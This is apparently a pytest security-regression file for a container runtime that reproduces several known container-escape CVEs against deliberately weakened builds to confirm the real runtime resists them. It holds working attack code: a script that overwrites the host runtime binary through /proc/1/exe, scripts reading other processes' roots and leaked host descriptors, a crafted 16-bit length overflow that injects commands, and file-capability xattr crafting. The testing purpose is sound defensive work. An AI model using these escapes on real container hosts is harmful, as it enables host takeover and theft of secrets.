"""Attacks on the process that enters a container: its program, its descriptors, its working directory, its orders."""

from __future__ import annotations

import fcntl
import os
import shlex
import subprocess
import time
from pathlib import Path
from typing import Any

import pytest

from pycontain.runtime import creation, jsontext, spec
from pycontain.runtime.kernel.cgroup import open_cgroup
from pycontain.runtime.kernel.host import probe
from pycontain.runtime.plan.ops import encode
from pycontain.runtime.plan.rights import CAPS
from tests.runtime_tools import HIERARCHIES
from tests.security.attacks import CGROUPS, SECRET, Arena, Patch, attack
from tests.security.test_runtime_paths import bind

pytestmark = pytest.mark.needs("root", "musl_gcc", "busybox", "userns")

DUMPABLE = Patch("runtime/init", "	prctl(PR_SET_DUMPABLE, 0, 0, 0, 0);\n", "")
# A root of a user namespace, with every capability in it, looks at each process that it can see.
LOOK = """
for p in /proc/[0-9]*; do
    [ $p = /proc/$$ ] && continue
    cat $p/root$1/decoy/secret
    for f in $p/fd/*; do ls $f/.. ; done
done 2>/dev/null
echo looked
"""


class Pod:
    """Two containers in one pid and one user namespace; the first is the attacker's."""

    def __init__(self, arena: Arena) -> None:
        self.arena = arena
        (arena.rootfs / "look").write_text(LOOK)
        self.pid = arena.start("sleep", "60", change=self._all_rights)
        self.victim = f"{arena.id}b"
        self.report = arena.path / "report"
        self.look = arena.command("exec", arena.id, "sh", "/look", arena.path)

    def _all_rights(self, config: dict[str, Any]) -> None:
        config["process"]["capabilities"] = {key: list(CAPS) for key in ("bounding", "effective", "permitted")}
        config["linux"]["namespaces"].append({"type": "user"})
        config["linux"]["uidMappings"] = config["linux"]["gidMappings"] = [{"containerID": 0, "hostID": 0, "size": 65536}]

    def create(self, hook: str = "true") -> None:
        def change(config: dict[str, Any]) -> None:
            spaces = config["linux"]["namespaces"] + [{"type": "user"}]
            for space in spaces:
                if space["type"] in ("user", "pid"):
                    space["path"] = f"/proc/{self.pid}/ns/{space['type']}"
            config["linux"]["namespaces"] = spaces
            config["hooks"] = {"createRuntime": [{"path": "/bin/sh", "args": ["sh", "-ec", hook], "env": ["PATH=/usr/bin:/bin"]}]}

        script = ("sh", "-c", "echo runs; sleep 60")
        bundle = self.arena.bundle_for(self.victim, self.arena.path / "victim", *script, change=change)
        command = self.arena.command("run", "-b", bundle, self.victim)
        self._running = subprocess.Popen(command, stdout=subprocess.PIPE, stdin=subprocess.DEVNULL)
        assert self._running.stdout is not None
        assert self._running.stdout.readline() == b"runs\n"

    def close(self) -> None:
        self.arena("kill", self.victim, "KILL", check=True)
        self._running.communicate(timeout=20)


@attack("CVE-2016-9962", DUMPABLE)
def test_a_container_looks_at_one_that_is_being_made(arena: Arena) -> str:
    """While the second container of a pod waits for its hooks, its root is the host's."""
    pod = Pod(arena)
    pod.create(f"{shlex.join(pod.look)} > {pod.report}")
    seen = pod.report.read_text()
    pod.close()
    assert seen.endswith("looked\n")
    return seen.removesuffix("looked\n")


@attack("CVE-2016-9962", DUMPABLE)
def test_a_container_looks_at_who_enters_another(arena: Arena) -> str:
    """Held by the freezer, the process of an exec has the host's cgroup directories open."""
    pod = Pod(arena)
    pod.create()
    unified = next(path for path in (HIERARCHIES / "unified", HIERARCHIES) if (path / "cgroup.procs").exists())
    freeze = unified / CGROUPS / pod.victim / "cgroup.freeze"
    freeze.write_text("1")
    command = arena.command("exec", pod.victim, "echo", "entered")
    pipes: dict[str, Any] = dict.fromkeys(("stdout", "stderr"), subprocess.PIPE)
    entering = subprocess.Popen(command, text=True, stdin=subprocess.DEVNULL, **pipes)
    while len((freeze.parent / "cgroup.procs").read_text().split()) < 2 and entering.poll() is None:
        time.sleep(0.01)
    done = arena("exec", arena.id, "sh", "/look", arena.path, check=True)
    freeze.write_text("0")
    said = entering.communicate(timeout=20)
    assert (*said, entering.returncode) == ("entered\n", "", 0)
    pod.close()
    return done.stdout.removesuffix("looked\n")


STEAL = """
exec 9< /proc/1/exe || echo cannot open
( i=0
  while [ $i -lt 200 ]; do
    echo overwritten 2>&- > /proc/self/fd/9 && echo written && break
    [ $(readlink /proc/1/exe) = /bin/busybox ] && i=$((i+20))
    i=$((i+1)); sleep 0.01
  done > /dev/shm/result 2>&1; echo done >> /dev/shm/result ) < /dev/null &
exit 0
"""


@attack(
    "CVE-2019-5736",
    Patch("runtime", 'os.posix_spawn(f"/proc/self/fd/{moved[0]}", argv', "os.posix_spawn(INIT, argv"),
)
def test_the_runtimes_program_is_overwritten(arena: Arena) -> str:
    """A hook inside the container, with every capability, takes hold of pid 1's program while that is still init."""
    (arena.rootfs / "steal").write_text(STEAL)
    before = arena.build.program.read_bytes()

    def change(config: dict[str, Any]) -> None:
        config["hooks"] = {"startContainer": [{"path": "/bin/sh", "args": ["sh", "/steal"], "env": ["PATH=/bin"]}]}
        config["process"]["capabilities"] = {key: list(CAPS) for key in ("bounding", "effective", "permitted")}

    script = "until grep -q done /dev/shm/result; do sleep 0.01; done; cat /dev/shm/result"
    done = arena.run("sh", "-c", script, change=change)
    reached = "" if arena.build.program.read_bytes() == before else "the host's init is overwritten"
    if not arena.build.weakened:
        assert done.stdout.endswith("done\n") and "written" not in done.stdout, done.stdout + done.stderr
        assert arena.run("echo", "again").stdout == "again\n"
    return reached


@attack(
    "CVE-2021-43784",
    Patch("runtime/plan", '(len(value).to_bytes(4, "little"), value)', '((len(value) & 0xFFFF).to_bytes(4, "little"), value)'),
    Patch("runtime/plan", "len(arguments).to_bytes", "(len(arguments) & 0xFFFF).to_bytes"),
)  # fmt: skip
def test_orders_behind_a_length_that_overflows(arena: Arena) -> str:
    """65536 bytes of groups are as long as none in 16 bits: what they hold would be the next operations.

    They say: be no other user, show the file.
    """

    def change(config: dict[str, Any], groups: list[int] | None = None) -> None:
        config["process"]["user"] = {"uid": 1000, "gid": 1000, "additionalGids": groups or [7]}
        config["mounts"].append(bind(arena.decoy, "/run/decoy"))

    arena.decoy.chmod(0o755)
    (arena.decoy / "public").write_text("public")
    arena.remember()
    script = ("sh", "-c", "id -G; cat /run/decoy/public; cat /run/decoy/secret")
    assert arena.run(*script, change=change).stdout == "1000 7\npublic"
    config = spec.check(jsontext.parse(creation.read_config(str(arena.bundle)), ""))
    cgroup, root = open_cgroup(f"/{CGROUPS}/{arena.id}"), {"kind": "directory", "path": "/"}
    real = creation.plan_for(cgroup, config, creation.complete_resources(config), probe(), root).ops
    behind = real[[op[0] for op in real].index("groups") + 1 :]
    orders = [("umask", 0o22)] * (len(behind) - 2) + [("exec", "/bin/cat", ["cat", "/run/decoy/secret"], [], 0)]
    blob = encode(orders)[16:]
    rest = 65536 - len(blob) - 12 + len(encode(behind)) - 16
    blob += encode([("groups", b"")])[16:20] + (rest + 4).to_bytes(4, "little") + rest.to_bytes(4, "little")
    blob = blob.ljust(65536, b"\1")
    groups = [int.from_bytes(blob[at : at + 4], "little") for at in range(0, 65536, 4)]
    done = arena.run(*script, change=lambda config: change(config, groups))
    if not arena.build.weakened:
        found = [int(group) for group in done.stdout.splitlines()[0].split()]
        assert found == [1000, *groups] or sorted(found) == sorted([1000, *groups])
    return SECRET if SECRET in done.stdout else ""


@attack(
    "CVE-2022-29162",
    Patch("runtime/plan", '    masks["ambient"] &= masks', '    masks["inheritable"] = masks["bounding"]\n    masks["ambient"] &= masks'),
)  # fmt: skip
def test_a_program_with_file_capabilities(arena: Arena) -> str:
    """What is inheritable is given to any user by a program whose file has it inheritable too: capabilities(7)."""
    gain = arena.rootfs / "gain"
    gain.write_bytes((arena.rootfs / "bin/busybox").read_bytes())
    gain.chmod(0o755)
    (arena.rootfs / "cat").symlink_to("gain")
    override = 1 << CAPS["CAP_DAC_OVERRIDE"]
    # struct vfs_cap_data, revision 2: effective; permitted, inheritable of 32 bits twice
    words = (0x02000001, 0, override, 0, 0)
    os.setxattr(gain, "security.capability", b"".join(word.to_bytes(4, "little") for word in words))

    def change(config: dict[str, Any]) -> None:
        config["process"]["user"] = {"uid": 1000, "gid": 1000}
        config["process"]["noNewPrivileges"] = False
        for caps in config["process"]["capabilities"].values():
            caps.append("CAP_DAC_OVERRIDE")
        config["mounts"].append(bind(arena.decoy, "/run/decoy"))

    pid = arena.start("sleep", "60", change=change)
    own = [arena.exec(None, "/cat", "/etc/passwd").stdout, arena.exec(None, "/cat", "/run/decoy/secret").stdout]
    assert own[0].startswith("root:")
    inheritable = [Path(f"/proc/{pid}/status").read_text(), arena.exec(None, "cat", "/proc/self/status").stdout]
    if not arena.build.weakened:
        assert all("CapInh:\t0000000000000000" in text for text in inheritable)
    return own[1]


LEAK = (
    Patch("runtime/init", "	TRY(syscall(SYS_close_range, base + 1, ~0u, 0)); /* what our starter leaked */\n", ""),
    Patch("runtime/init", "	TRY(syscall(SYS_close_range, base + count, ~0u, 0));\n", ""),
    Patch("runtime/init", "	if (syscall(SYS_getcwd, cwd, sizeof cwd) < 0 || cwd[0] != '/')\n", "	if (0)\n"),
)


def handed(arena: Arena) -> int:
    """A directory of the host, open in the process that calls the runtime, and not closed when it does."""
    opened = os.open(arena.path, os.O_RDONLY | os.O_DIRECTORY)
    fd = fcntl.fcntl(opened, fcntl.F_DUPFD, 50)
    os.close(opened)
    return fd


@attack("CVE-2024-21626", *LEAK, Patch("runtime/init", "	int dir = TRY(parent_of(path, true, name));\n	TRY(mkdirat", "	int dir = parent_of(path, true, name);\n	if (dir < 0)\n		return;\n	TRY(mkdirat"))  # fmt: skip
def test_a_working_directory_on_the_host(arena: Arena) -> str:
    """The image's WORKDIR names a descriptor of the host's, as it is and by a link."""
    fd = handed(arena)
    (arena.rootfs / "work").symlink_to(f"/proc/self/fd/{fd}")
    seen = ""
    for cwd in (f"/proc/self/fd/{fd}", "/work", "/tmp"):
        script = ("sh", "-c", "pwd; cat decoy/secret ../../../../..$0/secret", str(arena.decoy))
        done = arena.run(*script, change=lambda c, cwd=cwd: c["process"].update(cwd=cwd), pass_fds=[fd])
        seen += done.stdout
        assert cwd != "/tmp" or done.stdout == "/tmp\n", done.stderr
    os.close(fd)
    return seen.removesuffix("/tmp\n")


@attack("CVE-2024-21626", *LEAK)
def test_exec_with_a_working_directory_on_the_host(arena: Arena) -> str:
    fd = handed(arena)
    arena.start()
    script = ("sh", "-c", "pwd; cat decoy/secret")
    assert arena.exec("--cwd", "/tmp", None, *script, pass_fds=[fd]).stdout == "/tmp\n"
    seen = ""
    for number in (*range(3, 14), fd):
        done = arena.exec("--cwd", f"/proc/self/fd/{number}", None, *script, pass_fds=[fd])
        seen += done.stdout.replace("/\n", "")  # at most the container's own root is open there
        assert done.stdout or f"cannot change directory to /proc/self/fd/{number}: " in done.stderr
    os.close(fd)
    return seen
